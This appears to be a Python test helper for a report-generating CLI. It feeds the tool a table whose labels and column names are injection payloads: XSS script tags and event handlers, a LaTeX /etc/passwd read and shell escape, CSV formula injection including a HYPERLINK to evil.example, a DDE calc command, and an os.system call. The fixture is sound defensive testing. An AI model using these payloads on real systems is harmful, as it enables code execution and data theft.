"""Reports of a table made to attack: every label and column is code to some program that may read them."""

import subprocess
import sys

import pandas as pd

LABELS = [
    "<script>window.hacked = 1; alert(1)</script>",
    "<img src=x onerror=\"alert('img')\">",
    r"$\LaTeX\input{/etc/passwd}$",
    r"\write18{touch pwned}",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "line\nbreak",
    "quotes ' \" ''' \"\"\"",
    "\u202egnp.exe",
    "</pre></style></svg><svg onload=alert(2)>",
    "{{ 7 * 7 }}{% raw %}",
    "[click](javascript:alert(3))",
    "__import__('os').system('touch pwned')",
    "</script><script>window.hacked = 1; alert(1)</script>",
    "<!--<script>",
    "&amp;",
]
COLUMNS = ["acc <b onmouseover=alert(4)>&", "=1+1 $x_{$ cost"]


def make_table():
    n = len(LABELS)
    return pd.DataFrame({"name": LABELS, COLUMNS[0]: range(n), COLUMNS[1]: [(7 * i) % n for i in range(n)]})


def make_reports(folder):
    """Write the table into the folder, and the reports below ``out``, from the command line."""
    make_table().to_csv(folder / "own.csv", index=False)
    command = [sys.executable, "-m", "copa_nb.cli", "select", "own.csv", "--max", COLUMNS[0], "--min", COLUMNS[1]]
    command += ["--weight", f"{COLUMNS[0]}=0.4", "--out", "out"]
    done = subprocess.run(command, cwd=folder, capture_output=True, text=True, timeout=240, check=False)
    assert done.returncode == 0, done.stdout + done.stderr


def files(folder, ending):
    found = sorted((folder / "out").rglob(f"*{ending}"))
    assert found, f"no {ending} was written"
    return found
